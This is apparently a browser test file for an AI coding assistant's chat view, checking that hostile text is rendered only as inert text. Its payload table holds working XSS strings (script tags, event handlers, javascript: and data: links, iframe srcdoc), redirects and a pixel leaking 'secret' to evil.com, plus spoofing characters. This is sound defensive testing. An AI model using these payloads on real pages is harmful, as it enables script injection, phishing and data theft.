import { readFile } from 'node:fs/promises';
import fc from 'fast-check';
import { expect } from 'vitest';
import type { ToView } from '../../../../src/actors/protocol/ui.js';
import { test } from './browser-test.js';
import { hit } from './state/hits.js';
import type { ToldTurn } from './state/story.js';
import { STATUS, type ViewPage } from './view-page.js';

declare global {
  interface Window {
    harm?: true;
    DOMPurify: {
      readonly removed: readonly { readonly attribute?: Attr; readonly element?: Node }[];
      sanitize(html: string, options: object): string;
    };
  }
}

const HARM = 'window.harm=true';
const ESC = '\u001b';

/** One way to do harm with text, and what of it must be seen as text instead. */
const ALL: readonly [what: string, text: string, shown: string][] = [
  ['a script', `<script>${HARM}</script>`, `<script>${HARM}</script>`],
  ['a script in a block', `\n<script>\n${HARM}\n</script>\n`, '</script>'],
  ['an event handler', `a <img src=x onerror="${HARM}">`, `<img src=x onerror="${HARM}">`],
  ['svg', `a <svg><animate onbegin="${HARM}" attributeName=x dur=1s>`, `<animate onbegin="${HARM}"`],
  ['MathML', `<math><mi xlink:href="javascript:${HARM}">x</mi></math>`, 'xlink:href'],
  ['a template', `<template><img src=x onerror=${HARM}></template>`, '<template>'],
  ['styles', '<style>*{display:none}</style>', 'display:none'],
  ['a style attribute', '<b style="position:fixed;inset:0">x</b>', 'position:fixed'],
  ['a frame', `<iframe srcdoc="<script>parent.harm=true</script>">`, 'srcdoc'],
  ['a form', '<form action="https://evil.com"><button>Go</button></form>', '<form action='],
  ['a base', '<base href="https://evil.com/">', '<base href='],
  ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.com">', 'http-equiv'],
  ['an image', '![pixel](https://evil.com/a.png?q=secret)', 'evil.com'],
  ['an image of data', '![x](data:image/svg+xml;base64,PHN2Zz4=)', 'data:image'],
  ['a javascript: link', `[x](javascript:${HARM})`, 'javascript:'],
  ['a javascript: link with entities', `[x](&#x6a;avascript&#58;${HARM})`, 'avascript'],
  ['a javascript: link with controls', `[x](java&#9;script&#10;:${HARM})`, 'java'],
  ['a command: link', '[x](command:workbench.action.quit)', 'command:workbench'],
  ['a vscode: link', '<vscode://a.b/c>', 'vscode://a.b/c'],
  ['a data: link', `[x](data:text/html,<script>${HARM}</script>)`, 'data:text/html'],
  ['a right-to-left override', 'invoice\u202egnp.exe', 'U+202E'],
  ['zero-width characters', 'pay\u200bpal', 'U+200B'],
  ['ANSI escapes', `${ESC}[31mred${ESC}[0m ${ESC}]0;title\u0007`, 'red'],
  ['a line of 100,000 characters', 'x'.repeat(100_000), 'xxxxxxxxxx'],
  ['100,000 quotes in quotes', '>'.repeat(100_000), '>>>>'],
  ['100,000 brackets', '['.repeat(100_000), '[[[['],
  ['a long table', `|a|b|\n|-|-|\n${'|c|d|\n'.repeat(15_000)}`, '|c|d|'],
];

/** A turn in which the text is everywhere that text can be. */
function turnOf(text: string): ToldTurn {
  const result = { outcome: 'tool_error', success: false, output: text } as const;
  const attachments = [{ kind: 'file', path: text }] as const;
  return {
    message: { text, attachments },
    state: 'ended',
    events: [
      { type: 'thought', content: text, reasoning: text },
      { type: 'action', callId: '1', tool: text, params: { [text]: text, list: [text] } },
      { type: 'observation', callId: '1', tool: text, result },
      { type: 'retry', attempt: 1, maxAttempts: 2, waitMs: 1, reason: text },
      { type: 'error', name: text, code: 'LLM_REQUEST', message: text, partial: text },
    ],
  };
}

/** The same around the conversation. */
function around(text: string): readonly ToView[] {
  const short = text.slice(0, 500);
  return [
    {
      type: 'status',
      status: {
        ...STATUS,
        provider: short,
        model: short,
        index: { phase: 'degraded', files: 1, reason: short },
        problem: short,
      },
    },
    { type: 'attach', ref: { kind: 'file', path: short } },
    {
      type: 'mentionHits',
      id: 1,
      hits: [hit(short, { in: short, ranges: [[0, 3]] }), hit('b', { in: 'c' })],
    },
  ];
}

/** What on the page can act though it came as text. */
function findLive(): string[] {
  const found: string[] = [];
  const ACTIVE =
    'iframe, object, embed, img, video, audio, svg, math, base, meta[http-equiv=refresh], style, template';
  for (const element of document.body.querySelectorAll(ACTIVE)) found.push(element.outerHTML.slice(0, 200));
  for (const element of document.body.querySelectorAll('*'))
    for (const { name, value } of element.attributes) {
      const isAddress = ['href', 'src', 'action', 'formaction', 'srcdoc', 'xlink:href'].includes(name);
      const isOurs = element instanceof HTMLScriptElement;
      const isLive =
        name.startsWith('on') || name === 'style' || (isAddress && !/^(?:https?|mailto):/.test(value));
      if (isLive && !isOurs) found.push(`${name}=${value}`);
      if (/(?![\n\t])[\p{Cc}\p{Bidi_Control}\u200b]/u.test(value)) found.push(`hidden: ${name}=${value}`);
    }
  if (/(?![\n\t])[\p{Cc}\p{Bidi_Control}\u200b]/u.test(document.body.innerText))
    found.push('hidden characters');
  if (window.harm === true) found.push('a script that ran');
  return found;
}

async function drawEverywhere(view: ViewPage, text: string): Promise<void> {
  await view.start({ turns: [turnOf(text)] });
  for (const summary of await view.page.locator('summary').all())
    await summary.click({ position: { x: 8, y: 8 } });
  await view.message.pressSequentially('@');
  await view.tell(...around(text));
  await view.files.waitFor();
}

test.for(ALL)('%s is text wherever it comes from', async ([, text, shown], { openView }) => {
  const view = await openView();
  await drawEverywhere(view, text);

  for (const part of ['.user-message', '.step-body', '[role=alert]', '.turn > .markdown'])
    expect(await view.page.locator(part).first().textContent()).toContain(shown);
  expect(await view.page.evaluate(findLive)).toEqual([]);
  expect(await view.violations()).toEqual([]);
  expect(view.requests).toEqual([]);
  expect(view.page.url()).toBe('http://localhost/');
});

test('the page lets no string become HTML: what the tests above rely on', async ({ openView }) => {
  const view = await openView();
  await view.start();
  const outcome = await view.page.evaluate(() => {
    try {
      document.body.innerHTML = '<b>a</b>';
      return 'taken';
    } catch (error) {
      return String(error);
    }
  });
  expect(outcome).toContain('TrustedHTML');
  expect(await view.violations()).toEqual([expect.stringContaining('require-trusted-types-for')]);
});

test('a page full of hostile text is no wider and hardly bigger than another', async ({ openView }) => {
  const view = await openView({ width: 300 });
  await view.start({ turns: ALL.map(([, text]) => turnOf(text)) });
  const { width, elements } = await view.page.evaluate(() => ({
    width: document.documentElement.scrollWidth,
    elements: document.querySelectorAll('*').length,
  }));
  expect(width).toBe(300);
  expect(elements).toBeLessThan(5_000);
});

test('DOMPurify, as a judge, finds nothing to remove from what any text is drawn as', async ({
  openView,
}) => {
  const hostile = ALL.map(([, text]) => text).filter(({ length }) => length < 1_000);
  const markup = [
    '\n',
    '\n\n',
    '- ',
    '> ',
    '|',
    '|-|\n',
    '`',
    '```\n',
    '*',
    '**',
    '[',
    '](',
    ')',
    '<',
    '>',
    '&lt;',
    '"',
    '# ',
  ];
  const part = fc.constantFrom(...hostile, ...markup);
  const texts = fc.sample(
    fc.array(part, { minLength: 1, maxLength: 12 }).map((parts) => parts.join('')),
    150,
  );
  const view = await openView();
  let html = '';
  // Of many turns, only those near what is seen would be drawn.
  for (const text of texts) {
    await view.start({ turns: [turnOf(text)] });
    html += await view.log.innerHTML();
  }

  const judge = await view.page.context().newPage();
  const purify = new URL(import.meta.resolve('dompurify/dist/purify.min.js'));
  await judge.evaluate(await readFile(purify, 'utf8'));
  const removed = await judge.evaluate((html) => {
    // Its own list of what is safe, without what it lets pass and a message has no use for.
    const FORBID_TAGS = [
      'img',
      'svg',
      'math',
      'style',
      'form',
      'input',
      'video',
      'audio',
      'picture',
      'template',
    ];
    window.DOMPurify.sanitize(html, {
      FORBID_TAGS,
      FORBID_ATTR: ['style', 'id', 'name', 'src'],
      // Else it takes every attribute for dangerous that has a tag in it, as a hostile file name in a title does.
      SAFE_FOR_XML: false,
    });
    return window.DOMPurify.removed.map(({ attribute, element }) => attribute?.name ?? element?.nodeName);
  }, html);
  expect(removed).toEqual([]);
});
